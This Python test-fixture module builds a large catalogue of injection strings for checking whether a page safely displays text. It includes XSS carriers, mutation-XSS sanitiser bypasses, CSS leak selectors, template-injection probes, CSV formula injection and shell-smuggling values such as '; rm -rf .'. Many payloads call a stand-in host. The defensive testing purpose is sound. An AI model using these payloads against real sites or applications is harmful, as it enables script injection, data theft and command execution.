"""Texts that a careless page would run, load, or break on: one family for each context that a text can land in.

Each is inert where it is shown as it stands. Where it is not, it sets ``window.__pwned``, asks for an address under
`ELSEWHERE`, or changes the elements of the page; the tests look for all three.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice, product

ELSEWHERE = "http://elsewhere.invalid"
RUN = "window.__pwned=1"
EVALUATED = str(9377731 * 3)  # stands on the page if a template was evaluated

# What ends the context that a text stands in, or begins one that swallows what follows.
ENDS = (
    "", '">', "'>", "`>", "--></", "-->", "--!>", "]]>", "</title>", "</style>", "</textarea>", "</script>", "</pre>",
    "</details>", "</td></tr></table>", "</data>", "</a>", "</button>", "</desc></svg>", "</text></g></svg>",
    "</noscript>", "</template>", "</select>", "</xmp>", "</iframe>", "</math>", "</body></html>", "<!--", "<![CDATA[",
    "<plaintext>", "<textarea>", "<title>", "<style>", "<script>", "<template>", "<select><option>", "<noscript>",
)  # fmt: skip
CARRIERS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
)
EVENTS = (
    "onmouseover", "onfocus", "onclick", "onload", "onerror", "ontoggle", "onpointerenter", "onanimationstart",
    "onbeforeinput", "oncopy", "onbegin", "onwheel",
)  # fmt: skip
QUOTES = ('"', "'", "")

ELEMENTS = (
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<iframe src={ELSEWHERE}/frame></iframe>",
    f"<object data={ELSEWHERE}/object></object>",
    f"<embed src={ELSEWHERE}/embed>",
    f"<link rel=stylesheet href={ELSEWHERE}/style.css>",
    f"<link rel=preload as=image href={ELSEWHERE}/preload>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta charset=utf-7>+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    f"<form action={ELSEWHERE}><button>go</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src={ELSEWHERE}/audio autoplay>",
    f"<picture><source srcset={ELSEWHERE}/set><img></picture>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN}>",
    f"<html onmouseover={RUN}>",
    f"<a href=\"javascript:{RUN}\" id=x>x</a>",
    f"<a href=#contents ping={ELSEWHERE}/ping>x</a>",
    f"<svg><use href=\"{ELSEWHERE}/use.svg#a\"/></svg>",
    f"<svg><image href=\"{ELSEWHERE}/image.svg\"/></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload={RUN}></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<table background={ELSEWHERE}/background>",
    f"<div style=\"background:url({ELSEWHERE}/div)\">",
    "<div><template shadowrootmode=open><slot></slot></template></div>",
    "<dialog open>x</dialog>",
    "<h1 id=verdict>PASS</h1>",
    "<img name=body><form id=attributes><input name=cookie>",
    f"<?xml-stylesheet href=\"{ELSEWHERE}/x.xsl\"?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM \"{ELSEWHERE}/entity\">]>&y;",
)  # fmt: skip
URLS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"&#106;avascript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"data:text/html,<script>parent.{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+", f"vbscript:{RUN}",
    "file:///etc/passwd", f"{ELSEWHERE}/plain", "//elsewhere.invalid/scheme", f"view-source:{ELSEWHERE}",
)  # fmt: skip
STYLES = (
    f"}}body{{background:url({ELSEWHERE}/css)}}", f";background:url({ELSEWHERE}/css);", f"@import '{ELSEWHERE}/css';",
    f"x:expression({RUN})", f"-moz-binding:url({ELSEWHERE}/xbl)", f"behavior:url({ELSEWHERE}/htc)",
    f"\\75\\72\\6c({ELSEWHERE}/escaped)", "}*{display:none}", "*/}*{display:none}/*", "/*", "var(--ink)",
    f"}}@font-face{{font-family:x;src:url({ELSEWHERE}/font)}}", f"}}[value^='1']{{background:url({ELSEWHERE}/leak)}}",
)  # fmt: skip
TEMPLATES = (
    "{{9377731*3}}", "{{ 9377731*3 }}", "{%print(9377731*3)%}", "{% raw %}{{9377731*3}}{% endraw %}", "{# hidden #}",
    "{{", "${9377731*3}", "#{9377731*3}", "<%= 9377731*3 %>", "[[${9377731*3}]]", "%(title)s", "%s%n%d", "{0}{title}",
    "{{ self._TemplateReference__context }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}",
    "{% extends 'x' %}", "{% endblock %}", "{%- endfor -%}", "# for x in y", "$title ${title}", "{{'<b>'|safe}}",
)  # fmt: skip
MATHTEXT = (
    r"$\frac{1}{0}$", "$", "$$", r"\$", r"$x", r"$\unknown{a}$", r"$\mathdefault{-1}$", "^_{}", r"\n\t\u0041",
)  # fmt: skip
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"&#60;script&#62;{RUN}",
    f"&#x3c;svg onload={RUN}&#x3e;", f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;", "&nbsp;&shy;&lrm;&rlm;&#0;&#x80;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN}", f"\\x3cscript\\x3e{RUN}", "&", "&amp", "&#;",
)  # fmt: skip
SCRIPTS = (
    f'";{RUN};//', f"';{RUN};//", f"`;{RUN};`", f"\\\";{RUN}//", f"*/{RUN}/*", f"${{{RUN}}}", f"\\';{RUN}//",
    f"<!--<script>{RUN}", f"</script><!--<script>{RUN}", f"\u2028{RUN}//", f"\n{RUN}//", f"]}};{RUN};({{[",
)  # fmt: skip
CONTROLS = (
    f"<\x00script>{RUN}</script>", f"<scr\x00ipt>{RUN}</script>", f"<img\x0bsrc=x\x0conerror={RUN}>",
    f"<svg\x0conload={RUN}>", "\x00\x01\x02\x08\x0e\x1f\x7f", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\r\nb\rc\nd",
    "\x85\u2028\u2029", "\ufeff\ufffe\uffff\U0001ffff", "\ue000\U000f0000", f"%0d%0aLocation:{ELSEWHERE}",
)  # fmt: skip
DIRECTIONS = (
    "\u202egnp.txt", "\u202d\u202e\u202e", "\u2066\u2067\u2068", "\u2067right\u2066", "\u200f\u061c\u200e", "א\u202bב",
    f"/*\u202e }}\u2066if(x)\u2069 \u2066 {RUN} */", "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
    "a\u200db\u200cc\u2060d\u00ade", f"＜script＞{RUN}＜/script＞", "‹script›", "👩\u200d👩\u200d👧 \U000e0041",
)  # fmt: skip
MUTATED = (  # inert as parsed, alive after a sanitiser has written it out again
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror={RUN}>",
    f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
    f"<xmp><p title=\"</xmp><svg/onload={RUN}>\">",
    f"<img alt=\"``onerror={RUN} src=x\">",
    f"<table><td><svg><desc><td></desc></svg></table><img src=x onerror={RUN}>",
    f"<a><svg><a><foreignObject><a><img src=x onerror={RUN}></a>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", f'=HYPERLINK("{ELSEWHERE}")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    '","=1+1', "=", "＝1+1",
)  # fmt: skip
PATHS = ("../../etc/passwd", "$(touch x)", "`touch x`", "; rm -rf .", "| cat", "C:\\CON", "a/./b//c", "~root", "-rf")


def _all() -> Iterator[str]:
    yield from (end + carrier for end, carrier in zip(ENDS, cycle(CARRIERS), strict=False))
    for event, (quote, leave) in zip(EVENTS * 3, cycle(product(QUOTES, (" ", ">", "/"))), strict=False):
        yield f"{quote}{leave}{event}={quote or ''}{RUN}{quote or ''} x={quote}"
    for family in (ELEMENTS, URLS, STYLES, TEMPLATES, MATHTEXT, ENTITIES, SCRIPTS, CONTROLS, DIRECTIONS, MUTATED):
        yield from family
    yield from FORMULAS
    yield from PATHS


INJECTIONS: tuple[str, ...] = tuple(dict.fromkeys(_all()))


def batches(longest: int) -> list[tuple[str, ...]]:
    """Return all of them in groups that together, a blank apart, are no longer than a text may be."""
    found: list[list[str]] = [[]]
    for one in INJECTIONS:
        if sum(map(len, found[-1])) + len(found[-1]) + len(one) > longest:
            found.append([])
        found[-1].append(one)
    return [tuple(group) for group in found]


def rotated(group: tuple[str, ...], by: int) -> tuple[str, ...]:
    """Return the group beginning with another of its texts, so that each comes to stand first somewhere."""
    return tuple(islice(cycle(group), by % len(group), by % len(group) + len(group)))
